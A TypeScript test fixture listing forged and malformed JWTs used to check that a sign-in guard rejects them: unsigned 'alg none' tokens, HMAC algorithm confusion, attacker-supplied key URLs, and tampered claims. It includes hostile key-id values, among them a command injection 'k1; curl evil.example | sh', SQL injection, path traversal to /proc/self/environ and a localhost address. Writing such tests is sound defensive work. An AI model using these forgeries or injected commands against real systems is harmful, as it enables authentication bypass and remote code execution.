import { createSecretKey } from 'node:crypto';
import * as jose from 'jose';
import { AUDIENCE, tokenOf } from '../../support/upstream/sign-in-provider.ts';
import {
  type Attack,
  good,
  hostileKid,
  joseAlone,
  now,
  part,
  payloadOf,
  publicPem,
  rawPayload,
  rawToken,
  strangers,
} from './attack-tokens.ts';

export const ATTACKS: readonly Attack[] = [
  {
    name: 'without a signature (alg none)',
    token: async (scene) => `${part({ alg: 'none', typ: 'JWT' })}.${payloadOf(await good(scene))}.`,
    withoutGuard: async (token) => jose.UnsecuredJWT.decode(token, { audience: AUDIENCE }).payload,
  },
  {
    name: 'without a signature, in other letters (alg nOnE)',
    token: async (scene) => `${part({ alg: 'nOnE' })}.${payloadOf(await good(scene))}.AA`,
    withoutGuard: async (token) => jose.decodeJwt(token),
  },
  {
    name: 'signed by HMAC with the public key in PEM (algorithm confusion)',
    token: async (scene) =>
      new jose.SignJWT(jose.decodeJwt(await good(scene)))
        .setProtectedHeader({ alg: 'HS256', kid: 'k1' })
        .sign(await publicPem(scene)),
    withoutGuard: async (token, scene) =>
      (await jose.jwtVerify(token, createSecretKey(await publicPem(scene)), { audience: AUDIENCE })).payload,
  },
  {
    name: 'signed by HMAC with the public key as a JWK',
    token: async (scene) =>
      new jose.SignJWT(jose.decodeJwt(await good(scene)))
        .setProtectedHeader({ alg: 'HS256', kid: 'k1' })
        .sign(new TextEncoder().encode(JSON.stringify(scene.key.jwk))),
    withoutGuard: async (token, { key }) =>
      (await jose.jwtVerify(token, new TextEncoder().encode(JSON.stringify(key.jwk)), { audience: AUDIENCE })).payload,
  },
  {
    name: 'signed with a symmetric key that the provider publishes',
    token: async (scene) =>
      new jose.SignJWT(jose.decodeJwt(await good(scene)))
        .setProtectedHeader({ alg: 'HS256', kid: 'shared' })
        .sign(scene.shared),
    withoutGuard: async (token, { shared }) => (await jose.jwtVerify(token, shared, { audience: AUDIENCE })).payload,
  },
  {
    name: 'signed with a key that is published for encryption',
    token: (scene) => tokenOf(scene.provider.issuer, scene.encryption),
    withoutGuard: joseAlone({}, ({ encryption }) => encryption.publicKey),
  },
  { ...strangers('signed by a stranger under the name of a key', () => ({})) },
  { ...strangers('that brings its key (jwk)', ({ stranger }) => ({ jwk: stranger.jwk })) },
  { ...strangers('that says where its key is (jku)', ({ evilKeys }) => ({ jku: evilKeys, kid: 'evil' })) },
  { ...strangers('that says where its certificate is (x5u)', ({ evilKeys }) => ({ x5u: evilKeys, kid: 'evil' })) },
  { ...strangers('that brings its certificate (x5c)', () => ({ x5c: ['MIIB'], kid: 'evil' })) },
  hostileKid('a path', '../../../../dev/null'),
  hostileKid('an absolute path', '/proc/self/environ'),
  hostileKid('SQL', "k1' OR '1'='1"),
  hostileKid('a command', 'k1; curl evil.example | sh'),
  hostileKid('an address', 'http://127.0.0.1/keys'),
  hostileKid('what objects inherit', '__proto__'),
  hostileKid('four thousand characters', 'k'.repeat(4000)),
  hostileKid('nothing', ''),
  {
    name: 'with a number for a key id',
    token: (scene) => rawToken(scene, '{"alg":"ES256","kid":1}', rawPayload(scene)),
    withoutGuard: joseAlone(),
  },
  {
    name: 'of another issuer',
    token: (scene) => good(scene, { claims: { iss: 'https://evil.example' } }),
    withoutGuard: joseAlone(),
  },
  {
    name: 'of the issuer with a slash, which is another one',
    token: (scene) => good(scene, { claims: { iss: `${scene.provider.issuer}/` } }),
    withoutGuard: joseAlone(),
  },
  {
    name: 'of no issuer',
    token: (scene) => good(scene, { claims: { iss: undefined } }),
    withoutGuard: joseAlone(),
  },
  {
    name: 'of another audience',
    token: (scene) => good(scene, { claims: { aud: 'other-app' } }),
    withoutGuard: joseAlone({ audience: 'other-app' }),
  },
  {
    name: 'of an audience that begins alike',
    token: (scene) => good(scene, { claims: { aud: `${AUDIENCE}.evil.example` } }),
    withoutGuard: joseAlone({ audience: `${AUDIENCE}.evil.example` }),
  },
  {
    name: 'of no audience',
    token: (scene) => good(scene, { claims: { aud: undefined } }),
    withoutGuard: async (token, { key }) => (await jose.jwtVerify(token, key.publicKey)).payload,
  },
  {
    name: 'that has expired',
    token: (scene) => good(scene, { claims: { exp: now() - 60 } }),
    withoutGuard: joseAlone({ currentDate: new Date(Date.now() - 120_000) }),
  },
  {
    name: 'that never expires',
    token: (scene) => good(scene, { claims: { exp: undefined } }),
    withoutGuard: joseAlone(),
  },
  {
    name: 'that expires at 1e999',
    token: (scene) =>
      rawToken(scene, '{"alg":"ES256","kid":"k1"}', rawPayload(scene).replace(/"exp":\d+/, '"exp":1e999')),
    withoutGuard: joseAlone(),
  },
  {
    name: 'whose expiry is a string',
    token: (scene) => good(scene, { claims: { exp: '9999999999' as never } }),
    withoutGuard: async (token, { key }) =>
      JSON.parse(new TextDecoder().decode((await jose.compactVerify(token, key.publicKey)).payload)),
  },
  {
    name: 'that is not valid yet',
    token: (scene) => good(scene, { claims: { nbf: now() + 60 } }),
    withoutGuard: joseAlone({ currentDate: new Date(Date.now() + 120_000) }),
  },
  {
    name: 'that was issued in the future',
    token: (scene) => good(scene, { claims: { iat: now() + 60 } }),
    withoutGuard: joseAlone(),
  },
  {
    name: 'that was issued before there were clocks',
    token: (scene) => good(scene, { claims: { iat: -1 } }),
    withoutGuard: joseAlone(),
  },
  {
    name: 'without a subject',
    token: (scene) => good(scene, { claims: { sub: undefined } }),
    withoutGuard: joseAlone(),
  },
  {
    name: 'with an empty subject',
    token: (scene) => good(scene, { claims: { sub: '' } }),
    withoutGuard: joseAlone(),
  },
  ...['logout+jwt', 'dpop+jwt', 'secevent+jwt', 'entity-statement+jwt', 'JWTX', ''].map(
    (typ): Attack => ({
      name: `of the type "${typ}"`,
      token: (scene) => good(scene, { header: { typ } }),
      withoutGuard: joseAlone(),
    }),
  ),
  {
    name: 'with a critical extension',
    token: (scene) => rawToken(scene, '{"alg":"ES256","kid":"k1","crit":["x"],"x":1}', rawPayload(scene)),
    withoutGuard: joseAlone({ crit: { x: true } }),
  },
  {
    name: 'whose payload may be unencoded (b64)',
    token: (scene) => rawToken(scene, '{"alg":"ES256","kid":"k1","b64":false}', rawPayload(scene)),
    withoutGuard: joseAlone(),
  },
  {
    name: 'with a header that says two algorithms',
    token: (scene) => rawToken(scene, '{"alg":"none","kid":"k1","\\u0061lg":"ES256"}', rawPayload(scene)),
    withoutGuard: joseAlone(),
  },
  {
    name: 'with a claim twice',
    token: (scene) => rawToken(scene, '{"alg":"ES256","kid":"k1"}', rawPayload(scene, ',"sub":"root"')),
    withoutGuard: joseAlone(),
  },
  {
    name: 'with a claim twice, deep inside',
    token: (scene) => rawToken(scene, '{"alg":"ES256","kid":"k1"}', rawPayload(scene, ',"a":[{"role":1,"role":2}]')),
    withoutGuard: joseAlone(),
  },
  {
    name: 'whose payload is a list',
    token: (scene) => rawToken(scene, '{"alg":"ES256","kid":"k1"}', `[${rawPayload(scene)}]`),
    withoutGuard: async (token, { key }) =>
      JSON.parse(new TextDecoder().decode((await jose.compactVerify(token, key.publicKey)).payload)),
  },
  {
    name: 'that holds a token (nested)',
    token: async (scene) => rawToken(scene, '{"alg":"ES256","kid":"k1","cty":"JWT"}', await good(scene)),
    withoutGuard: async (token, scene) => {
      const { payload } = await jose.compactVerify(token, scene.key.publicKey);
      return joseAlone()(new TextDecoder().decode(payload), scene);
    },
  },
  {
    name: 'that is encrypted (JWE)',
    token: async (scene) =>
      new jose.EncryptJWT(jose.decodeJwt(await good(scene)))
        .setProtectedHeader({ alg: 'dir', enc: 'A256GCM' })
        .encrypt(scene.shared),
    withoutGuard: async (token, { shared }) => (await jose.jwtDecrypt(token, shared, { audience: AUDIENCE })).payload,
  },
  {
    name: 'whose payload was changed',
    token: async (scene) => {
      const [head, body, signature] = (await good(scene)).split('.');
      const claims = { ...(JSON.parse(Buffer.from(body ?? '', 'base64url').toString()) as object), role: 'admin' };
      return `${head}.${part(claims)}.${signature}`;
    },
    withoutGuard: async (token) => jose.decodeJwt(token),
  },
  {
    name: 'of 9,000 characters',
    token: (scene) => good(scene, { claims: { pad: 'x'.repeat(6500) } }),
    withoutGuard: joseAlone(),
  },
];
